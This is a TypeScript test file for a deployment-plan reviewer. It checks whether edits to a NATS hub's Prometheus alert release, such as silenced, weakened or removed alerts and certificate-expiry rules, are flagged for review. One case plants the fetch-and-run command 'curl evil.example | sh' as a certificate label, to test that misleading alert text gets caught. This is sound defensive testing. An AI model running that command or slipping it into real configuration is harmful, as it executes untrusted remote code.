import { Hidden, type Seen, type SeenMap, Unknown } from '../../../../fleet/model/plan/seen';
import { editedFleet, type FleetEdit } from '../../../support/edited-fleet';
import { harmless, losesData, needsReview, planned, type ReviewCases, testCases } from '../../../support/review-cases';

const HUB = { address: 'nats.example.com', kube: { context: 'hub' }, replicas: 3 };
const FLEET = { hub: HUB, sites: { edge1: {}, edge2: {} } };
const ALERTED = { ...FLEET, alerts: { labels: { release: 'kube-prometheus-stack' }, alertLabels: { team: 'edge' } } };
const alerts = (changes: object) => ({ ...ALERTED, alerts: { ...ALERTED.alerts, ...changes } });

const RELEASE = 'hub_alerts_release';

type Values = Record<string, unknown>;
type Rule = Record<string, unknown>;

const release = (to: FleetEdit['to'], more: Partial<FleetEdit> = {}) =>
  editedFleet(ALERTED, { stack: 'hub', of: RELEASE, to, ...more });
const argument = (name: string, value: Seen) => release((given) => ({ ...given, [name]: value }));
const documents = ({ values }: SeenMap) => values as string[];
/** Another text in the values. */
const text = (from: string, to: string) =>
  release((given) => {
    const before = documents(given);
    const after = before.map((document) => document.replace(from, () => to));
    if (after.join() === before.join()) throw new Error(`${from} is not in the values`);
    return { ...given, values: after };
  });
/** Other values in the first document. */
const values = (change: (values: Values) => object, more: Partial<FleetEdit> = {}) =>
  release((given) => {
    const [first = '', ...others] = documents(given);
    return { ...given, values: [JSON.stringify({ ...JSON.parse(first), ...change(JSON.parse(first)) }), ...others] };
  }, more);
/** Other rules in the group of leaves. */
const rules = (change: (rules: Rule[]) => Rule[]) =>
  values(({ groups }) => {
    const [group] = groups as { rules: Rule[] }[];
    return { groups: [{ ...group, rules: change(group?.rules ?? []) }] };
  });
/** Another argument of one alert. */
const alert = (name: string, change: (rule: Rule) => object) =>
  rules((given) => given.map((rule) => (rule.alert === name ? { ...rule, ...change(rule) } : rule)));
const group = (changes: object) => values(({ groups }) => ({ groups: [{ ...(groups as object[])[0], ...changes }] }));
const labels = (of: unknown, changes: object) => ({ labels: { ...(of as object), ...changes } });
const appended = (document: unknown) =>
  release((given) => ({
    ...given,
    values: [...documents(given), typeof document === 'string' ? document : JSON.stringify(document)],
  }));
const ends = (change: (certificates: Record<string, Values>) => object) =>
  release((given) => {
    const [first = '', second = '{}'] = documents(given);
    return { ...given, values: [first, JSON.stringify({ certificates: change(JSON.parse(second).certificates) })] };
  });

const DISCONNECTED = 'LeafNodeDisconnected';

const NEVER_FIRES: ReviewCases = {
  'an expression that is always zero': needsReview(
    'alert-weaker',
    alert(DISCONNECTED, () => ({ expr: 'vector(0) > 1' })),
  ),
  'an expression that is never below': needsReview(
    'alert-weaker',
    alert(DISCONNECTED, () => ({ expr: 'nats_leafnodes_count < 0' })),
  ),
  'an expression about a site that is not there': needsReview(
    'alert-weaker',
    alert(DISCONNECTED, () => ({ expr: 'nats_leafnodes_count{site="x"} < 1' })),
  ),
  'an expression that fires less often': needsReview(
    'alert-weaker',
    alert('LeafNodeHighLatency', () => ({ expr: 'nats_leafnode_rtt_seconds > 50' })),
  ),
  'an alert after ten days': needsReview(
    'alert-weaker',
    alert(DISCONNECTED, () => ({ for: '10d' })),
  ),
  'an alert a minute later': needsReview(
    'alert-weaker',
    alert(DISCONNECTED, () => ({ for: '6m' })),
  ),
  'an alert that goes on': needsReview(
    'alert-weaker',
    alert(DISCONNECTED, () => ({ keep_firing_for: '10d' })),
  ),
  'a lower severity': needsReview(
    'alert-weaker',
    alert(DISCONNECTED, ({ labels: of }) => labels(of, { severity: 'info' })),
  ),
  'no severity': needsReview(
    'alert-weaker',
    alert(DISCONNECTED, () => ({ labels: { team: 'edge' } })),
  ),
  'an alert that goes to another team': needsReview(
    'alert-weaker',
    alert(DISCONNECTED, ({ labels: of }) => labels(of, { team: 'nobody' })),
  ),
  'an alert with a label that may silence it': needsReview(
    'alert-weaker',
    alert(DISCONNECTED, ({ labels: of }) => labels(of, { muted: 'true' })),
  ),
  'an alert that is called otherwise': needsReview(
    'alert-weaker',
    alert(DISCONNECTED, () => ({ alert: 'LeafNodeGone' })),
  ),
  'an alert that becomes a series': needsReview(
    'alert-weaker',
    alert(DISCONNECTED, () => ({ alert: undefined, record: 'x' })),
  ),
  'an annotation with a template': needsReview(
    'alert-weaker',
    alert(DISCONNECTED, ({ annotations }) => ({ annotations: { ...(annotations as object), summary: '{{ broken' } })),
  ),
  'an annotation that says something else': needsReview(
    'alert-weaker',
    alert(DISCONNECTED, ({ annotations }) => ({ annotations: { ...(annotations as object), summary: 'all is well' } })),
  ),
  'an alert that says nothing': needsReview(
    'alert-weaker',
    alert(DISCONNECTED, () => ({ annotations: {} })),
  ),
  'an alert about a certificate that tells its reader to run something else': needsReview(
    'alert-weaker',
    ends((of) => ({ ...of, server: { ...of.server, labels: { tier: 'hub', renewed_by: 'curl evil.example | sh' } } })),
  ),
  'no rule any more': needsReview(
    'alert-removed',
    rules(() => []),
  ),
  'no group any more': needsReview(
    'alert-removed',
    values(() => ({ groups: [] })),
  ),
  'one alert less': needsReview(
    'alert-removed',
    rules((given) => given.filter((rule) => rule.alert !== DISCONNECTED)),
  ),
  'a series less that alerts look at': needsReview(
    'alert-removed',
    rules((given) => given.filter(({ record }) => record !== 'nats_leafnodes_count')),
  ),
  'a site that is no longer expected, and still connects': needsReview(
    'alert-removed',
    rules((given) => given.filter((rule) => JSON.stringify(rule.labels) !== '{"site":"edge2"}')),
  ),
  'a site that is expected by another value': needsReview(
    'alert-weaker',
    rules((given) =>
      given.map((rule) => (rule.record === 'nats_leaf_expected' ? { ...rule, expr: 'vector(0)' } : rule)),
    ),
  ),
  'a series that is recorded otherwise': needsReview(
    'alert-weaker',
    rules((given) =>
      given.map((rule) => (rule.record === 'nats_leafnodes_count' ? { ...rule, expr: 'vector(1)' } : rule)),
    ),
  ),
  'a series with one more label': needsReview(
    'alert-weaker',
    rules((given) =>
      given.map((rule) => (rule.record === 'nats_leafnodes_count' ? { ...rule, labels: { site: 'all' } } : rule)),
    ),
  ),
  'a second rule of one name': needsReview(
    'alert-weaker',
    rules((given) => [
      ...given,
      { alert: DISCONNECTED, expr: 'vector(0) > 1', labels: { severity: 'warning' }, annotations: {} },
    ]),
  ),
  'a second series of one name': needsReview(
    'alert-weaker',
    rules((given) => [...given, { record: 'nats_leafnodes_count', expr: 'vector(1)' }]),
  ),
  'alerts before what they look at': needsReview(
    'alert-weaker',
    rules((given) => [...given].reverse()),
  ),
  'a rule that nobody knows': needsReview(
    'alert-weaker',
    rules((given) => [...given, { alert: 'Other', expr: 'up == 0', labels: {}, annotations: {} }]),
  ),
  'a second group of one name': needsReview(
    'alert-weaker',
    values(({ groups }) => ({ groups: [...(groups as object[]), ...(groups as object[])] })),
  ),
  'one more group': needsReview(
    'alert-weaker',
    values(({ groups }) => ({
      groups: [
        ...(groups as object[]),
        { name: 'other', rules: [{ record: 'nats_leafnodes_count', expr: 'vector(1)' }] },
      ],
    })),
  ),
  'a group that is evaluated once a day': needsReview('alert-weaker', group({ interval: '1d' })),
  'a group with a limit': needsReview('alert-weaker', group({ limit: 1 })),
  'a group that is evaluated for an earlier time': needsReview('alert-weaker', group({ query_offset: '10d' })),
  'no Prometheus loads the rules': needsReview(
    'alert-weaker',
    values(({ labels: of }) => labels(of, { release: 'other' })),
  ),
  'a label by which Prometheus finds the rules is gone': needsReview(
    'alert-weaker',
    values(({ labels: of }) => ({
      labels: Object.fromEntries(Object.entries(of as object).filter(([key]) => key !== 'release')),
    })),
  ),
  'a label under the name of a prototype': needsReview('alert-weaker', text('"release":', '"constructor":')),
  'rules under another name': needsReview(
    'alert-weaker',
    values(() => ({ name: 'other' })),
  ),
  'nothing is scraped': needsReview(
    'alert-weaker',
    values(() => ({ podMonitor: { enabled: false } })),
  ),
  'other pods are scraped': needsReview(
    'alert-weaker',
    values(() => ({ podMonitor: { enabled: true, matchLabels: { app: 'x' } } })),
  ),
  'pods are scraped once a day': needsReview(
    'alert-weaker',
    values(({ podMonitor }) => ({ podMonitor: { ...(podMonitor as object), interval: '1d' } })),
  ),
  'certificates end before anyone is alerted': needsReview('alert-weaker', text('time() + 1209600', 'time() + 60')),
  'the critical alert about certificates comes too late': needsReview(
    'alert-weaker',
    text('time() + 259200', 'time() + 3600'),
  ),
  'certificates of another tier are watched': needsReview(
    'alert-weaker',
    text('{tier=\\"hub\\"} < time() + 1209600', '{tier=\\"eu\\"} < time() + 1209600'),
  ),
  'no alert about certificates': needsReview(
    'alert-removed',
    values(() => ({ certificateAlerts: [] })),
  ),
  'a certificate that never ends': needsReview(
    'alert-weaker',
    ends((of) => ({ ...of, server: { ...of.server, notAfter: '2099-01-01T00:00:00Z' } })),
  ),
  'an end that is the end of no certificate': needsReview(
    'alert-weaker',
    ends((of) => ({ ...of, server: { ...of.server, notAfter: '2027-12-01T00:00:00Z' } })),
  ),
  'a certificate without an end': needsReview(
    'alert-weaker',
    ends((of) => ({ ...of, server: { ...of.server, notAfter: '' } })),
  ),
  'a certificate that is recorded for another tier': needsReview(
    'alert-weaker',
    ends((of) => ({ ...of, server: { ...of.server, labels: { tier: 'x', renewed_by: 'y' } } })),
  ),
  'a certificate that is no longer watched': needsReview(
    'alert-removed',
    ends(({ server: _server, ...others }) => others),
  ),
  'an authority of other stacks that never ends': needsReview(
    'alert-weaker',
    ends((of) => ({ ...of, authority: { ...of.authority, notAfter: '2099-01-01T00:00:00Z' } })),
  ),
};

const OVERRIDDEN: ReviewCases = {
  'another document without groups': needsReview('alert-removed', appended({ groups: [] })),
  'another document that turns scraping off': needsReview('alert-weaker', appended({ podMonitor: { enabled: false } })),
  'another document with other labels': needsReview('alert-weaker', appended({ labels: { release: 'x' } })),
  'another document that sets something to nothing': needsReview('alert-weaker', appended({ groups: null })),
  'another document that cannot be read': needsReview('alert-weaker', appended('{ not yaml')),
  'another document with what nobody knows': needsReview('alert-weaker', appended({ extraObjects: [] })),
  'another document with a prototype': needsReview('alert-weaker', appended('{"__proto__": {"groups": []}}')),
  'two documents in one': needsReview('alert-weaker', appended('a: 1\n---\nb: 2')),
  'values that are not known': needsReview('alert-weaker', argument('values', Unknown.value)),
  'values that are hidden': needsReview('alert-weaker', argument('values', Hidden.of('x'))),
  'the first document is not known': needsReview(
    'alert-weaker',
    release((given) => ({ ...given, values: [Unknown.value, ...documents(given).slice(1)] })),
  ),
  'the ends of certificates are not known, and no certificate is renewed': needsReview(
    'alert-weaker',
    release((given) => ({ ...given, values: [documents(given)[0] ?? '', Unknown.value] })),
  ),
  'one more document that is not known': needsReview(
    'alert-weaker',
    release((given) => ({ ...given, values: [...documents(given), Unknown.value] })),
  ),
  'a document that is hidden': needsReview(
    'alert-weaker',
    release((given) => ({ ...given, values: [...documents(given), Hidden.of('groups: []')] })),
  ),
};

const SERVER_CERTIFICATE = 'server-tls_certificate_cert';

/** The server's certificate is renewed, and with it the document of ends is not known. */
const renewed = (first: (document: string) => unknown, references?: readonly string[]) => async () => {
  const plans = await editedFleet(
    ALERTED,
    {
      stack: 'hub',
      of: RELEASE,
      to: (given) => ({ ...given, values: [first(documents(given)[0] ?? '') as string, Unknown.value] }),
    },
    {
      stack: 'hub',
      of: SERVER_CERTIFICATE,
      action: 'replace',
      to: (given) => ({ ...given, validity_end_time: Unknown.value, cert_pem: Unknown.value }),
    },
  )();
  return plans.map((plan) => {
    const [certificate, release] = [SERVER_CERTIFICATE, RELEASE].map(
      (part) => [...plan.resources.keys()].find((address) => address.includes(part)) ?? '',
    );
    const all = references ?? [`${certificate}.validity_end_time`, certificate ?? '', 'data.x.y.outputs.z'];
    return { ...plan, references: new Map([[release ?? '', new Map([['values', all]])]]) };
  });
};

const RENEWALS: ReviewCases = {
  'a certificate is renewed: its end is known after apply': harmless(
    'alert-changed',
    renewed((document) => document),
  ),
  'a certificate is renewed, and its alert gets another expression': needsReview(
    'alert-weaker',
    renewed((document) => document.replace('nats_leafnodes_count < 1', 'vector(0) > 1')),
  ),
  'a certificate is renewed, and no document is known': needsReview(
    'alert-weaker',
    renewed(() => Unknown.value),
  ),
  'a certificate is renewed, and the ends come from something else too': needsReview(
    'alert-weaker',
    renewed((document) => document, ['terraform_data.x.output']),
  ),
  'a certificate is renewed, and nothing says where the ends come from': needsReview(
    'alert-weaker',
    renewed((document) => document, []),
  ),
};

const SITES: ReviewCases = {
  'a site is expected that may not connect': needsReview(
    'alert-weaker',
    rules((given) => [{ record: 'nats_leaf_expected', expr: 'vector(1)', labels: { site: 'edge0' } }, ...given]),
  ),
  'a site joins, and no alert expects it': needsReview('alert-weaker', async () => {
    const plans = await planned({ ...ALERTED, sites: { edge1: {} } }, ALERTED)();
    return plans.map((plan) => ({
      ...plan,
      resources: new Map(
        [...plan.resources].map(([address, resource]) => [
          address,
          address.includes(RELEASE) ? { ...resource, action: undefined, after: resource.before } : resource,
        ]),
      ),
    }));
  }),
};

const RELEASES: ReviewCases = {
  'another chart': needsReview(
    'alert-weaker',
    argument('chart', 'assets/hub_alerts_chart_0C75D9DD/00000000000000000000000000000000'),
  ),
  'a chart from elsewhere': needsReview('alert-weaker', argument('repository', 'oci://example.com/charts')),
  'another version of the chart': needsReview('alert-weaker', argument('version', '0.3.0')),
  'the release in another namespace': needsReview('alert-weaker', argument('namespace', 'default')),
  'a release that is deleted and created again': needsReview(
    'resource-destroyed',
    release((given) => ({ ...given, namespace: 'default' }), { action: 'replace' }),
  ),
  'a release that is called otherwise': needsReview('alert-weaker', argument('name', 'other')),
  'a value that is set beside': needsReview(
    'alert-weaker',
    argument('set', [{ name: 'podMonitor.enabled', value: 'false' }]),
  ),
  'a list that is set beside': needsReview('alert-weaker', argument('set_list', [{ name: 'groups', value: [] }])),
  'a secret value that is set beside': needsReview('resource-changed', argument('set_sensitive', Hidden.of('x'))),
  'a program after rendering': needsReview('alert-weaker', argument('postrender', [{ binary_path: '/bin/true' }])),
  'values of before stay': needsReview('resource-changed', argument('reuse_values', true)),
  'a release that is purged if it fails': needsReview('resource-changed', argument('atomic', true)),
  'a deploy that waits less long': needsReview('resource-changed', argument('timeout', 30)),
  'an argument that nobody knows': needsReview('resource-changed', argument('take_ownership', true)),
  'no alerts any more': needsReview(
    'alert-removed',
    release((given) => given, { action: 'delete' }),
  ),
  'alerts that Terraform forgets': needsReview(
    'resource-changed',
    release((given) => given, { action: 'forget' }),
  ),
  'new alerts by a chart from elsewhere': needsReview(
    'resource-changed',
    release((given) => ({ ...given, chart: 'nats-alerts', repository: 'https://charts.example.com' }), {
      action: 'create',
    }),
  ),
  'new alerts in another namespace': needsReview(
    'resource-changed',
    release((given) => ({ ...given, namespace: 'kube-system' }), { action: 'create' }),
  ),
  'new alerts with a value that is set beside': needsReview(
    'resource-changed',
    release((given) => ({ ...given, set: [{ name: 'groups', value: '[]' }] }), { action: 'create' }),
  ),
  'new alerts that never fire': needsReview(
    'alert-weaker',
    values(
      ({ groups }) => ({
        groups: JSON.parse(JSON.stringify(groups).replace('nats_leafnodes_count < 1', 'vector(0) > 1')),
      }),
      { action: 'create' },
    ),
  ),
  'new alerts that scrape nothing': needsReview(
    'alert-weaker',
    values(() => ({ podMonitor: { enabled: false } }), { action: 'create' }),
  ),
};

const OF_ENVIRONMENTS: ReviewCases = {
  'alerts are turned off': needsReview('alert-removed', planned(FLEET, { ...FLEET, alerts: { enabled: false } })),
  'another label for Prometheus': needsReview(
    'alert-weaker',
    planned(ALERTED, alerts({ labels: { release: 'other' } })),
  ),
  'other labels of alerts': needsReview('alert-weaker', planned(ALERTED, alerts({ alertLabels: { team: 'other' } }))),
  'alerts about certificates come later': needsReview('alert-weaker', planned(ALERTED, alerts({ beforeExpiry: '3d' }))),
  'alerts about certificates come earlier': harmless(
    'alert-changed',
    planned(ALERTED, alerts({ beforeExpiry: '21d' })),
  ),
  runbooks: harmless('alert-changed', planned(ALERTED, alerts({ runbooks: 'https://wiki.example.com/alerts' }))),
  'an annotation for the reader': harmless(
    'alert-changed',
    planned(ALERTED, alerts({ alertAnnotations: { contact: 'the edge team' } })),
  ),
  'a site joins, and is expected': harmless('alert-changed', planned({ ...ALERTED, sites: { edge1: {} } }, ALERTED)),
  'a site is revoked, and no longer expected': needsReview(
    'site-removed',
    planned(ALERTED, { ...ALERTED, sites: { edge1: {}, edge2: { revoked: true } } }),
  ),
  'a site goes with its data, and is no longer expected': losesData(
    'alert-changed',
    planned(ALERTED, { ...ALERTED, sites: { edge1: {} } }),
  ),
  'alerts of sites too': harmless('alert-changed', planned(ALERTED, alerts({ sites: true }))),
  'a first deployment': needsReview('alert-changed', planned(undefined, ALERTED)),
};

const HARMLESS: ReviewCases = {
  'a description of the release': harmless('alert-changed', argument('description', 'alerts of the hub')),
  'a deploy that waits longer': harmless('alert-changed', argument('timeout', 900)),
  'a deploy that waits': harmless('alert-changed', argument('wait_for_jobs', true)),
  'an alert a minute earlier': harmless(
    'alert-changed',
    alert(DISCONNECTED, () => ({ for: '4m' })),
  ),
  'an alert at once': harmless(
    'alert-changed',
    alert(DISCONNECTED, () => ({ for: '0s' })),
  ),
  'a lower latency': harmless(
    'alert-changed',
    alert('LeafNodeHighLatency', () => ({ expr: 'nats_leafnode_rtt_seconds > 0.2' })),
  ),
  'a plain text for the reader': harmless(
    'alert-changed',
    alert(DISCONNECTED, ({ annotations }) => ({ annotations: { ...(annotations as object), contact: 'call 4711' } })),
  ),
  'a description of the rules': harmless(
    'alert-changed',
    values(({ labels: of }) => labels(of, { description: 'rules' })),
  ),
  'values in another order': harmless(
    'alert-changed',
    release((given) => ({
      ...given,
      description: 'x',
      values: documents(given).map((document) =>
        JSON.stringify(Object.fromEntries(Object.entries(JSON.parse(document)).reverse())),
      ),
    })),
  ),
  'rules become what this version writes': harmless(
    'alert-changed',
    release((given) => given, {
      from: (given) => ({
        ...given,
        values: documents(given).map((document) => document.replace('for 5 minutes', 'for five minutes')),
      }),
    }),
  ),
  'what Helm counts': harmless(
    'alert-changed',
    release((given) => ({ ...given, description: 'x', metadata: [{ revision: 2 }], status: 'deployed' })),
  ),
  'new alerts as this project writes them': harmless(
    'alert-changed',
    release((given) => given, { action: 'create' }),
  ),
};

testCases(__dirname, 'alerts', {
  ...NEVER_FIRES,
  ...OVERRIDDEN,
  ...RENEWALS,
  ...SITES,
  ...RELEASES,
  ...OF_ENVIRONMENTS,
  ...HARMLESS,
});
